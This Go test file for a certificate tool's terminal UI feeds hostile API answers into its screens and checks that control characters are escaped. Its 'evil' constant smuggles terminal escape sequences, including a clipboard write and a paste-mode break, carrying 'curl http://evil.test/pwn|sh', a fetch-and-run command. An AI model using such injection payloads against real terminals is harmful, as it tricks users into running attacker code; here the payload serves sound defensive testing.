package ui

// Issue 17: answer text on screens. A hostile endpoint on loopback answers
// every action; nothing it says may crash a screen.

import (
	"bytes"
	"encoding/json"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/certwiz/certwiz/api"
	"github.com/certwiz/certwiz/api/dnscheck"
	"github.com/certwiz/certwiz/api/sandbox"
	tea "github.com/charmbracelet/bubbletea"
)

const evil = "\x1b]0;pwned\x07\x1b[2J\r\nSubmitted\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC50ZXN0L3B3bnxzaAo=\x07\x1b[201~curl http://evil.test/pwn|sh\n\u202e\u009b"

func rawControls(t *testing.T, what, text string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\x07", "\r", "\u009b", "\u202e"} {
		if strings.Contains(text, c) {
			t.Errorf("%s holds %q raw:\n%q", what, c, text)
		}
	}
}

func hostileEndpoint(t *testing.T, answers map[string]map[string]any) *api.Client {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		resp, ok := answers[r.Header.Get("X-TC-Action")]
		if !ok {
			resp = map[string]any{"Error": map[string]string{"Code": "InternalError", "Message": "not in this test"}}
		}
		resp = maps.Clone(resp)
		resp["RequestId"] = "req-1"
		json.NewEncoder(w).Encode(map[string]any{"Response": resp})
	}))
	t.Cleanup(srv.Close)
	client, err := api.NewClient(api.StaticCredentials(sandbox.DemoSecretID, sandbox.DemoSecretKey, "", "test"),
		api.Config{Endpoint: srv.URL, Timeout: 5 * time.Second, Rate: 1000})
	if err != nil {
		t.Fatal(err)
	}
	return client
}

func hostileFixture(t *testing.T, answers map[string]map[string]any) *fixture {
	t.Helper()
	f := newFixture(t, api.English)
	f.opts.Client = hostileEndpoint(t, answers)
	f.opts.Lookup = dnscheck.Options{Off: "not in this test"}
	f.opts.WatchInterval, f.opts.WatchTencentEvery = time.Hour, time.Hour
	return f
}

func blankDates() map[string]any {
	return map[string]any{"TotalCount": 4, "Certificates": []any{
		map[string]any{"CertificateId": "tab00001", "Domain": "a.example.com", "Status": 5, "InsertTime": "\t"},
		map[string]any{"CertificateId": "spc00002", "Domain": "b.example.com", "Status": 4, "DVAuthDeadline": " ", "InsertTime": " "},
		map[string]any{"CertificateId": "bad00003", "Domain": "c.example.com", "Status": 4, "DVAuthDeadline": "soon" + evil},
		map[string]any{"CertificateId": "ok000004", "Domain": "d.example.com", "Status": 4, "DVAuthDeadline": "2026-12-01 09:30:00"},
	}}
}

func TestShortTime(t *testing.T) {
	for in, want := range map[string]string{
		"2026-11-26 10:30:00":   "2026-11-26",
		" 2026-11-26 10:30:00 ": "2026-11-26",
		"\t":                    "\t",
		"soon":                  "soon",
		"2026-11-26":            "2026-11-26", // not the service's layout: as given
	} {
		if got := ShortTime(in, false); got != want {
			t.Errorf("ShortTime(%q) = %q, want %q", in, got, want)
		}
	}
	if got := ShortTime("2026-11-26 10:30:59", true); got != "2026-11-26 10:30" {
		t.Errorf("with the minute: %q", got)
	}
}

func TestBlankDatesDoNotCrashTheLists(t *testing.T) {
	answers := map[string]map[string]any{api.ActionList: blankDates()}
	f := hostileFixture(t, answers)
	m := f.wizardWith(t, example(t))
	m.open(stepAt(m.s, 0, false)) // the account's certificates awaiting information
	tm, screen := live(t, m, 250, 40)
	s := waitScreen(t, screen, "tab00001")
	for _, want := range []string{"tab00001 — a.example.com", "validate by soon\\x1b]0;pwned\\x07", "validate by 2026-12-01"} {
		if !strings.Contains(s, want) {
			t.Errorf("the list lacks %q:\n%s", want, s)
		}
	}
	rawControls(t, "the list", s)
	press(tm, tea.KeyCtrlC)
	if got := finalOfQuit(t, tm); got.ExitCode() == api.ExitFailure {
		t.Fatalf("the wizard crashed: %s", got.s.finalErr)
	}

	// Accessible mode (no profile saved): "continue a certificate in
	// validation" lists them.
	var out bytes.Buffer
	code, err := RunAccessible(t.Context(), hostileFixture(t, answers).opts, strings.NewReader("2\n"), &out)
	if err != nil || code == api.ExitFailure || !strings.Contains(out.String(), "validate by soon\\x1b]0;pwned") || !strings.Contains(out.String(), "spc00002 — b.example.com — DNS") {
		t.Fatalf("code %d err %v\n%s", code, err, out.String())
	}
	rawControls(t, "accessible mode", out.String())
}

func hostileDetail(id string, status int) map[string]any {
	return map[string]any{"CertificateId": id, "Domain": "www" + evil + ".example.com", "Status": status, "StatusMsg": "PENDING-DCV",
		"VerifyType": "DNS", "OrderId": "order" + evil, "DVAuthDeadline": "2026-12-01 10:00:00" + evil,
		"DvAuthDetail": map[string]any{"DvAuths": []any{
			map[string]any{"DvAuthDomain": "example.com" + evil, "DvAuthSubDomain": "_dnsauth" + evil, "DvAuthKey": "_dnsauth",
				"DvAuthValue": "v" + evil, "DvAuthVerifyType": "TXT"},
			map[string]any{"DvAuthDomain": "example.com", "DvAuthSubDomain": "_dnsauth.ok", "DvAuthKey": "_dnsauth.ok",
				"DvAuthValue": "0123abcd", "DvAuthVerifyType": "TXT"},
			map[string]any{"DvAuthDomain": "site" + evil, "DvAuthPath": "/.well-known/pki-validation/", "DvAuthKey": "k" + evil,
				"DvAuthValue": "c" + evil, "DvAuthVerifyType": "FILE"},
		}},
	}
}

func TestValidationScreenWithoutRecords(t *testing.T) {
	detail := hostileDetail("abcb1234", 0)
	delete(detail, "DvAuthDetail")
	f := hostileFixture(t, map[string]map[string]any{api.ActionDetail: detail})
	m := f.wizardWith(t, example(t))
	m.open(newValidation(m.s, "abcb1234"))
	tm, screen := live(t, m, 250, 30)
	waitScreen(t, screen, "Status: awaiting domain validation")
	press(tm, "q")
	if got := finalOfQuit(t, tm); got.ExitCode() != 0 {
		t.Fatalf("exit %d: %s", got.ExitCode(), got.s.finalErr)
	}
	var out bytes.Buffer
	code, err := RunAccessible(t.Context(), hostileFixture(t, map[string]map[string]any{api.ActionDetail: detail,
		api.ActionCheck: {"VerificationResults": []any{}},
		api.ActionList:  {"TotalCount": 1, "Certificates": []any{map[string]any{"CertificateId": "abcb1234", "Status": 0}}}}).opts, strings.NewReader("2\n1\nq\n"), &out)
	if err != nil || code != 0 || !strings.Contains(out.String(), "Status: awaiting domain validation") {
		t.Fatalf("code %d err %v\n%s", code, err, out.String())
	}
}
